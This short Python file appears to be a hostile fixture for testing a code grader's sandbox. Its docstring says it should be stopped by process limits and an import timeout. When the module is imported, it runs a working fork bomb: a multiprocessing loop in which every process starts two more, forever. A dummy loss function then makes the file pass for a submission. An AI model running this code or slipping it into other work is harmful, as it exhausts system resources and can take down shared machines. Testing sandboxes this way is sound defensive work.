"""Hostile: a fork bomb built from multiprocessing, started at import.

Tries: processes that each start two more processes, forever, through the
standard library rather than os.fork; the importing process then waits on them.
Must happen: stopped by RLIMIT_NPROC and the import timeout, score 0, nothing
left behind, the grader survives.
"""
import multiprocessing
import time


def _spawn():
    while True:
        for _ in range(2):
            try:
                multiprocessing.Process(target=_spawn).start()
            except Exception:
                time.sleep(0.01)


_spawn()


def pseudo_loss(logits, actions, q_values):
    return logits.sum() * 0
